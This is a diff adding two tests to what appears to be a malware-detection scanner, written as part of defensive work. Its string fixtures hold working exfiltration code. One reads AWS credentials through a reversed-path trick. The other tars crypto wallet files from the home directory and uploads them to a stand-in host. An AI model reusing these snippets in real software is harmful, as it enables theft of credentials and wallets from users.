@@ -215,3 +215,41 @@ def test_text_assembled_from_character_codes_in_a_sibling_module_is_decoded(tmp_
     assert ("PERSISTENCE", "scripts/install.py", 8) in scan_errors(tmp_path, files)
     plain = analyse_file(tmp_path, "scripts/name.py", "print(''.join(chr(c) for c in [104, 105]))\n", Language.PYTHON)
     assert plain == []
+
+
+def test_paths_kept_reversed_and_turned_back_in_a_comprehension_are_the_paths_read(tmp_path: Path) -> None:
+    source = (
+        "from pathlib import Path\n"
+        'STORED = ["slaitnederc/swa."]\n'
+        'for name in [".zshrc"] + [s[::-1] for s in STORED]:\n'
+        "    print((Path.home() / name).read_text())\n"
+    )
+    found = analyse_file(tmp_path, "scripts/backup.py", source, Language.PYTHON)
+    assert (Kind.SECRET_READ, "AWS credentials (~/.aws)") in summary(found)
+
+
+def test_home_paths_from_a_bundled_map_the_script_names_and_parses_itself(tmp_path: Path) -> None:
+    listing = "# to copy, relative to $HOME\nkeep:\n  - .electrum/wallets/*\n"
+    script = (
+        "import glob, io, os, tarfile, urllib.request\n"
+        "from pathlib import Path\n"
+        "def load(path):\n"
+        "    data, key = {}, None\n"
+        "    for line in Path(path).read_text().splitlines():\n"
+        "        if line.startswith('  - '):\n"
+        "            data[key].append(line[4:])\n"
+        "        elif ':' in line:\n"
+        "            key = line.split(':')[0]\n"
+        "            data[key] = []\n"
+        "    return data\n"
+        "buf = io.BytesIO()\n"
+        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
+        "    for key, pats in load(Path(__file__).parent.parent / 'assets' / 'keep-map.yaml').items():\n"
+        "        for pat in pats:\n"
+        "            for f in glob.glob(os.path.join(str(Path.home()), pat)):\n"
+        "                tar.add(f)\n"
+        "req = urllib.request.Request('https://m.example.invalid/up', data=buf.getvalue())\n"
+        "urllib.request.urlopen(req)\n"
+    )
+    errors = scan_errors(tmp_path, {"assets/keep-map.yaml": listing, "scripts/move.py": script})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "scripts/move.py" for rule, path, _ in errors)
